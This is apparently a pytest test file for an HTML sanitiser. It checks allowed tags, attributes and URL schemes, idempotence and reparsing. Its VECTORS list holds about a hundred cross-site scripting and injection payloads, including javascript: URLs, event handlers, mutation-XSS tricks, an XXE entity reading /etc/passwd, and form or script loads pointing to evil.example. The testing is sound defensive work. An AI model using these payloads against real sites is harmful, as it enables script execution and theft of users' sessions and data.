"""What leaves the sanitiser can do nothing, is well-formed, and comes through it unchanged."""

from __future__ import annotations

import re
from html import unescape

import pytest
from hypothesis import given
from selectolax.lexbor import LexborHTMLParser

from gateway.core.documents import PAGE, PLACEHOLDER
from gateway.formats import html, markdown, plain
from gateway.formats.fragments import VOID, join, pieces
from gateway.formats.sanitising import DROPPED, SCHEMES, TAGS, is_safe, sanitise
from tests.formats import soups
from tests.support.examples import examples

VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\x0b>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<img src=`javascript:alert(1)`>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src=x srcset="javascript:alert(1) 1x">',
    '<img """><script>alert(1)</script>">',
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=x style=background:url(javascript:alert(1))>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x'>x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<a href=https://e.example target=_top ping=//evil.example>x</a>",
    "<a style='position:fixed;inset:0' href=/login>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.example>",
    "<object data=javascript:alert(1)></object>",
    "<object><param name=src value=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<style>body{display:none}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p style=behavior:url(x)>x</p>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form action=//evil.example><input name=token><button formaction=//evil.example>x</button>",
    "<button onclick=alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<textarea></textarea><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1) poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<template><s><template><s><img src=x onerror=alert(1)>@</s></template></s></template>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><p>&e;",
    "</p><script>alert(1)</script><p>",
    "<p id=paywall class='paywall hidden'>x</p>",
    "<img name=getElementById><a id=location href=x>x</a>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<p lang='x\" onclick=\"alert(1)'>x</p>",
    "<details><summary onclick=alert(1)>x</summary></details>",
    "<ruby onmouseover=alert(1)>x<rt>y</rt></ruby>",
    "<portal src=javascript:alert(1)>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<slot onslotchange=alert(1)></slot>",
    "<x-y onclick=alert(1)>x</x-y>",
    "<a href='https://e.example/?x=&quot; onclick=&quot;alert(1)'>x</a>",
    "{{7*7}}{%print(1)%}${7*7}<p>{{x}}</p>",
)
ATTRIBUTES = {
    "id", "lang", "dir", "title", "class", "href", "rel", "src", "alt", "width", "height",
    "loading", "start", "reversed", "value", "colspan", "rowspan", "scope", "span", "datetime",
    "open",
}  # fmt: skip


PAGE_OF = '<!doctype html><body><div id="root">{}</div>'


def faults(clean: str) -> list[str]:
    """Return what must not be in sanitised HTML, as a browser's parser sees it."""
    found = []
    for node in LexborHTMLParser(PAGE_OF.replace("{}", clean)).css("#root *"):
        if node.tag not in TAGS:
            found.append(f"<{node.tag}>")
        for name, value in node.attributes.items():
            if name not in ATTRIBUTES:
                found.append(f"{node.tag} {name}")
            scheme = re.match(r"[\s\x00-\x20]*([^/?#]*?):", value or "")
            if name in ("href", "src") and scheme and scheme[1].lower() not in SCHEMES:
                found.append(f"{name}={value}")
            if name == "id" and not (value or "").startswith("doc-"):
                found.append(f"id={value}")
            if PLACEHOLDER in (value or "") or PAGE in (value or ""):
                found.append(f"{name} holds a cut")
    return found


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("wrap", ["{}", "<p>a {} b</p>", "<table><tr><td>{}</td></tr></table>"])
def test_a_vector_comes_out_inert(vector: str, wrap: str) -> None:
    clean = sanitise(wrap.format(vector) if "{{" not in vector else vector)
    assert faults(clean) == []
    assert sanitise(clean) == clean


@pytest.mark.parametrize("vector", VECTORS)
def test_a_vector_is_inert_in_every_format_and_form(vector: str) -> None:
    for form in (plain, markdown, html):
        rendering = form.render(f"# Title\n\nText {vector}\n\n{vector}\n")
        assert faults(rendering.html) == []
        again = markdown.render(rendering.markdown)
        assert faults(again.html) == []


@pytest.mark.parametrize("name", sorted(DROPPED - {"embed"}))
def test_what_is_not_text_goes_with_all_it_holds(name: str) -> None:
    clean = sanitise(f"<p>a</p><{name}>CANARY</{name}><p>b</p>")
    assert "CANARY" not in clean
    assert clean == "<p>a</p><p>b</p>"


def test_an_unbalanced_dropped_element_takes_nothing_with_it() -> None:
    assert "kept" in sanitise("<p>a</p><svg><p>kept</p>")
    assert "kept" in sanitise("<svg>gone</svg></svg><p>kept</p>")
    assert "gone" not in sanitise("<svg><svg>gone</svg>gone</svg><p>kept</p>")


@examples(200)
@given(soups.html)
def test_sanitising_is_idempotent(soup: str) -> None:
    clean = sanitise(soup)
    assert sanitise(clean) == clean
    assert faults(clean.replace(PLACEHOLDER, "")) == []


@examples(200)
@given(soups.html)
def test_another_parser_writes_it_back_as_it_is(soup: str) -> None:
    clean = sanitise(soup)
    assert join(pieces(clean)) == clean
    assert rewritten(clean) == clean


def rewritten(clean: str) -> str:
    root = LexborHTMLParser(PAGE_OF.replace("{}", clean)).css_first("#root")
    return (root and root.inner_html) or ""


@examples(200)
@given(soups.html)
def test_every_element_is_closed_in_order(soup: str) -> None:
    stack = []
    for piece in pieces(sanitise(soup)):
        if piece.opens:
            stack.append(piece.name)
        elif piece.closes:
            assert stack.pop() == piece.name
        else:
            assert not piece.name or piece.name in VOID
    assert stack == []


def test_links_and_images_keep_what_they_need() -> None:
    assert sanitise('<a href="https://e.example/?a=1&b=2" title="t">x</a>') == (
        '<a href="https://e.example/?a=1&amp;b=2" title="t" rel="noopener noreferrer">x</a>'
    )
    assert sanitise('<img src="/i.png" alt="一" width=20 height=10 style=x>') == (
        '<img src="/i.png" alt="一" width="20" height="10" loading="lazy">'
    )
    assert (
        sanitise('<img src="data:image/png;base64,AAAA" alt=x>') == '<img alt="x" loading="lazy">'
    )


def test_ids_and_links_to_them_have_their_own_names() -> None:
    clean = sanitise('<h2 id="paywall">x</h2><a href="#paywall">y</a><a href="#">z</a>')
    assert 'id="doc-paywall"' in clean
    assert 'href="#doc-paywall"' in clean
    assert 'href="#"' not in clean


def test_classes_are_those_of_our_own_renderings() -> None:
    assert sanitise('<p class="cut paywall">x</p>') == "<p>x</p>"
    assert sanitise('<strong class="lead x">x</strong>') == '<strong class="lead">x</strong>'
    code = '<pre><code class="language-c++">x</code></pre>'
    assert sanitise(code) == code


def test_numbers_are_small_numbers() -> None:
    assert sanitise('<ol start="99999"><li value="x">a</li></ol>') == "<ol><li>a</li></ol>"
    assert "colspan" not in sanitise('<table><tr><td colspan="100000">a</td></tr></table>')


def test_landmarks_become_plain_boxes() -> None:
    assert sanitise("<main><header>a</header><article>b</article></main>") == (
        "<div><div>a</div><div>b</div></div>"
    )


def test_leading_blank_lines_of_code_do_not_grow_or_shrink() -> None:
    assert sanitise("<pre>\n\n\na\n</pre>") == "<pre>a\n</pre>"


@pytest.mark.parametrize(
    "url", ["/x", "x", "#x", "?a:b", "https://x", "HTTP://x", "mailto:a@b", "x/y:z"]
)
def test_addresses_that_only_lead_somewhere_are_safe(url: str) -> None:
    assert is_safe(url)
    assert "href" in sanitise(f'<a href="{url}">x</a>')


@pytest.mark.parametrize(
    "url", ["javascript:x", " javascript:x", "java\tscript:x", "data:x", "x:y", "file:///"]
)
def test_addresses_that_do_something_are_not(url: str) -> None:
    assert not is_safe(url)
    assert "href" not in sanitise(f'<a href="{url}">x</a>')


def test_text_is_what_it_was() -> None:
    text = "a < b && c > d \"e\" 'f' &amp; &lt;script&gt; 字"
    clean = sanitise(f"<p>{text}</p>")
    assert unescape(re.sub("<[^>]*>", "", clean)) == unescape(text)
